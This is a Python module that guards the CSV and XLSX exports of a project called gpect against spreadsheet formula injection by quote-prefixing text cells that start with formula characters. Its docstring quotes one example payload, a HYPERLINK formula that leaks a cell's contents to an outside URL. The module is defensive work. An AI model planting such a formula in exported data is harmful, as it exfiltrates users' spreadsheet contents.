"""Spreadsheet-safe text: the one primitive every CSV and XLSX writer of gpect uses.

A text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a formula
by Excel, LibreOffice and Google Sheets when the file is opened (CSV injection, e.g. a commune
name `=HYPERLINK("http://…?leak="&B2,"Béziers")`). Following OWASP's guidance
(https://owasp.org/www-community/attacks/CSV_Injection), such a cell is prefixed with a single
quote so that it is shown as the text it is. Numbers are left alone: only text is neutralised.
CSV files are written the RFC 4180 way (CRLF line ends), so that a field holding a carriage return
or a line feed is quoted and cannot split its row.
"""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_text(value: Any) -> Any:
    """`value` unchanged unless it is text a spreadsheet would evaluate; then quote-prefixed."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` whose text columns (object or string dtype) are neutralised."""
    out = frame.copy()
    for column in out.columns:
        series = out[column]
        if pd.api.types.is_object_dtype(series) or pd.api.types.is_string_dtype(series):
            out[column] = series.map(safe_text, na_action="ignore")
    return out


def write_csv(frame: pd.DataFrame, path: Path) -> None:
    """`frame` as CSV at `path` (no index), its text neutralised and every field holding a
    delimiter, quote, CR or LF quoted."""
    safe_frame(frame).to_csv(path, index=False, quoting=csv.QUOTE_MINIMAL, lineterminator="\r\n")
